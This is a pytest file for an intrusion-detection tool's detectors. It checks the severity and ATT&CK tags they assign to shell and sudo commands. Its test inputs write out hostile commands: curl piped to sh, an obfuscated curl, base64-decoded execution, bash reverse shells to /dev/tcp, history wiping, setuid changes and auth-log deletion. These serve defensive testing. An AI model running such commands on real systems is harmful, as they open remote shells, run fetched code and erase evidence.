# SPDX-License-Identifier: Apache-2.0
"""How grave the detectors of shell commands take what they read, and what they tell a person."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from innerwarden_core import Engine, Record

from innerwarden import paths
from innerwarden.config import Config
from innerwarden.model.detector import Detector, Finding
from innerwarden.model.event import Event, from_record
from innerwarden.model.severity import Severity
from innerwarden.modules.factory import encode, start_of
from innerwarden.modules.loader import ModuleSet, load_modules

MODULES = paths.REPOSITORY / "modules"


@pytest.fixture(scope="module")
def shipped() -> ModuleSet:
    return load_modules([MODULES], Config())


def fresh(shipped: ModuleSet, name: str) -> Detector:
    one = shipped.python[name]
    return type(one)(one.parameters)


def shell(text: str, pid: int = 3000) -> Event:
    return executed(pid, "/usr/bin/bash", ["bash", "-c", text])


def executed(pid: int, exe: str, argv: list[str]) -> Event:
    data = encode("process.exec", pid=pid, exe_path=exe, argv=argv)
    engine = Engine()
    engine.feed(data)
    return from_record(Record(data), host="h", actor=engine.process(pid, start_of(pid)))


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("curl -s http://example.org/x | sh", Severity.MEDIUM),
        ("curl -s http://198.51.100.7/x | sh", Severity.HIGH),
        ("curl -s http://10.0.0.7/x | sh", Severity.MEDIUM),
        ("c''url -s http://example.org/x | sh", Severity.CRITICAL),
        ("echo aWQ= | base64 -d | sh; history -c", Severity.HIGH),
        ("bash -i >& /dev/tcp/198.51.100.7/1 0>&1", Severity.LOW),
        ("cd /tmp; ./x; bash -i >& /dev/tcp/198.51.100.7/1 0>&1", Severity.LOW),
        ("bash -i >& /dev/tcp/198.51.100.7/1 0>&1; unset HISTFILE", Severity.HIGH),
    ],
)
def test_points_decide(shipped: ModuleSet, text: str, severity: Severity) -> None:
    finding = fresh(shipped, "execution_guard").process(shell(text))
    assert finding is not None
    assert finding.severity is severity


def test_the_parts_are_told(shipped: ModuleSet) -> None:
    finding = fresh(shipped, "execution_guard").process(shell("echo aWQ= | base64 -d | sh; unset HISTFILE"))
    assert finding is not None
    assert set(finding.attack) == {"T1140", "T1070"}
    assert finding.values["detail"] == "runs text that it decoded first and removes traces"
    assert any("unset HISTFILE" in evidence.text for evidence in finding.evidence)


@pytest.fixture
def script() -> Iterator[Path]:
    path = Path(f"/tmp/iw-test-script-{os.getpid()}.sh")
    path.write_text("#!/bin/sh\necho aWQ= | base64 -d | sh\n")
    yield path
    path.unlink()


def test_a_script_in_a_shared_place_is_read(shipped: ModuleSet, script: Path) -> None:
    event = executed(os.getpid(), "/usr/bin/dash", ["/bin/sh", str(script)])
    finding = fresh(shipped, "execution_guard").process(event)
    assert finding is not None
    assert "decoded" in str(finding.values["detail"])
    script.write_text("#!/bin/sh\nmake\n")
    assert fresh(shipped, "execution_guard").process(event) is None


def sudo(commands: list[str], shipped: ModuleSet) -> Finding | None:
    detector, finding = fresh(shipped, "sudo_abuse"), None
    for place, command in enumerate(commands):
        record = Record(encode("sudo.command", at_s=place, user="bob", method="root", command=command))
        finding = detector.process(from_record(record, host="h"))
    return finding


MILD = [f"/usr/bin/systemctl stop unit{number}" for number in range(5)]
GRAVE = [f"/usr/bin/chmod u+s /srv/x{number}" for number in range(5)]


@pytest.mark.parametrize(
    ("commands", "severity"),
    [
        (MILD[:3], Severity.MEDIUM),
        (MILD, Severity.MEDIUM),
        ([*MILD[:2], GRAVE[0]], Severity.HIGH),
        ([*MILD[:4], GRAVE[0]], Severity.CRITICAL),
        (GRAVE[:2], None),
    ],
)
def test_sudo_by_number_and_gravity(
    shipped: ModuleSet, commands: list[str], severity: Severity | None
) -> None:
    finding = sudo(commands, shipped)
    assert (finding.severity if finding else None) is severity


def test_sudo_names_each_command(shipped: ModuleSet) -> None:
    finding = sudo(["/usr/sbin/useradd eve", "/usr/bin/rm /var/log/auth.log", "/tmp/x"], shipped)
    assert finding is not None
    assert finding.count == 3
    assert set(finding.attack) == {"T1136.001", "T1070", "T1059.004"}
    assert [evidence.text.rpartition(": ")[2] for evidence in finding.evidence] == [
        "/usr/sbin/useradd eve",
        "/usr/bin/rm /var/log/auth.log",
        "/tmp/x",
    ]
